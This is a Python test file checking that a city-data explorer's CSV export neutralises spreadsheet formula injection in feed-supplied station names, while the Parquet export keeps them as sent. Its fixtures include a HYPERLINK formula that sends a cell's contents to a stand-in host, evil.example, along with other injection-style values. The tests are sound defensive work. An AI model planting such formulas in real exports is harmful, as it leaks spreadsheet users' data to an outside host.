"""Exports cannot carry formulas: a station name a department's feed supplies that would run as a
spreadsheet formula comes out of the explorer's CSV as text, while numbers stay numbers.

The names arrive through a real feed on loopback, land in a real DuckDB file, and the CSV is fetched
from a real server over HTTP, as a user's browser downloads it.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import pyarrow.parquet as pq
import pytest

from cityops.server import Server, build_server
from ingest.pipeline import run_feed

DOMAIN = {
    "frost": {
        "label": "路面温度",
        "entity_kind": "road_sensor",
        "metrics": [{"name": "temp_c", "label": "路面温度", "unit": "°C", "min": -40, "max": 80}],
    }
}
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"点此")'
STATIONS = {
    "S1": (HYPERLINK, -3.5),
    "S2": ("-1+2", 4.0),
    "S3": ("@SUM(A1:A9)", -12.25),
    "S4": ("清城区北江桥", 1.5),
}


@pytest.fixture
def server(tmp_path: Path, make_runtime: Any, feed_server: Any) -> Iterator[Server]:
    feed_server.json(
        "/frost",
        {
            "rows": [
                {
                    "id": sid,
                    "mc": name,
                    "t": f"2026-06-15 0{h}:00:00",
                    "v": value + h,
                    "x": 113.05,
                    "y": 23.68,
                }
                for sid, (name, value) in STATIONS.items()
                for h in (6, 7, 8)
            ]
        },
    )
    rt = make_runtime(
        tmp_path,
        {
            "road-frost": {
                "department": "交通运输局",
                "domain": "frost",
                "cadence": "1h",
                "source": {"type": "http", "url": feed_server.url("/frost"), "records": "rows"},
                "fields": {
                    "entity_id": "id",
                    "entity_name": "mc",
                    "ts": "t",
                    "temp_c": "v",
                    "lon": "x",
                    "lat": "y",
                },
            }
        },
        domains=DOMAIN,
        extra={"server": {"anonymous_viewer": True}},
    )
    report = run_feed(rt, "road-frost")
    assert report.status == "ok" and report.rows_inserted == 12, report.error
    srv = build_server(rt, with_scheduler=False, host="127.0.0.1", port=0)
    srv.start_background()
    try:
        yield srv
    finally:
        srv.close_http()


def _download(server: Server, query: str) -> list[dict[str, str]]:
    r = httpx.get(f"{server.url}/explore/export.csv?{query}", timeout=30)
    assert r.status_code == 200, r.text[:300]
    assert r.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))


@pytest.mark.parametrize("sid", sorted(STATIONS))
def test_a_station_name_that_is_a_formula_comes_out_as_text(server: Server, sid: str) -> None:
    name, value = STATIONS[sid]
    rows = _download(server, f"domain=frost&metric=temp_c&range=24h&entity={sid}")
    series = [r for r in rows if r["chart"] == "series"]
    assert len(series) == 3
    shown = {r["name"] for r in rows if r["chart"] in ("series", "heatmap")}
    if name.startswith(("=", "-", "@")):
        assert shown == {"'" + name}, shown
    else:
        assert shown == {name}, shown
    # The measures are numbers, negative ones included: written as numbers, never as quoted text.
    assert [float(r["value"]) for r in series] == [value + 6, value + 7, value + 8]
    assert all(not r["value"].startswith("'") for r in rows)


def test_the_parquet_export_keeps_the_name_as_the_feed_sent_it(server: Server) -> None:
    # Parquet is typed: nothing in it is evaluated, so the department's text stays exactly as sent.
    r = httpx.get(f"{server.url}/explore/export.parquet?domain=frost&metric=temp_c&range=24h&entity=S1")
    assert r.status_code == 200
    frame = pq.read_table(io.BytesIO(r.content)).to_pandas()
    series = frame[frame["chart"] == "series"]
    assert set(series["name"]) == {HYPERLINK}
    assert list(series["value"]) == [-3.5 + 6, -3.5 + 7, -3.5 + 8]
